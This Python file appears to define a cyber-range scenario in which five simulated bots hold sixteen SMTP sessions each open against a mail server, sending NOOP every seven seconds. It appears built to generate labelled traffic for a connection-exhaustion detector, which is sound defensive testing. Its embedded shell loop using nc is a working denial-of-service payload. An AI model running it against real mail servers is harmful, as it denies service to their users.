"""Five machines together hold all sessions that a mail server gives."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario

SESSIONS = """
for n in $(seq 16); do
  (sleep 1; printf 'EHLO bot.example\\r\\n'; while sleep 7; do printf 'NOOP\\r\\n'; done) |
    nc %s 25 >/dev/null &
  sleep 0.3
done
wait
"""


def run(net: Range) -> None:
    bots = [net.outside(f"bot{number}") for number in range(1, 6)]
    mail = net.inside("mail")
    servers.mail(mail, "mail.range.example", "range.example")
    net.everyday()
    pc1 = net.inside("pc1")
    letter = f"swaks --server {mail.ip} --from a@range.example --to anna@range.example --timeout 3"
    net.loop(pc1, letter, 2.0)
    with net.attack(
        "connection-exhaustion",
        by=bots,
        victims=[mail],
        frames=f"tcp and dst host {mail.ip} and dst port 25",
        responses=f"tcp and src host {mail.ip} and src port 25 and dst net 198.51.100.0/24",
    ):
        for bot in bots[1:]:
            net.start(bot, "sh", "-c", SESSIONS % mail.ip)
        net.tool(bots[0], "sh", "-c", SESSIONS % mail.ip, seconds=38)
    net.quiet(2)


SCENARIO = Scenario(
    name="connection-exhaustion-held-bots",
    about="Five machines hold sixteen SMTP sessions each and say NOOP every seven seconds; mail goes on.",
    detectors=("connection-exhaustion",),
    tools={"nc": "ncat", "swaks": "swaks", "postfix": "postfix"},
    run=run,
)
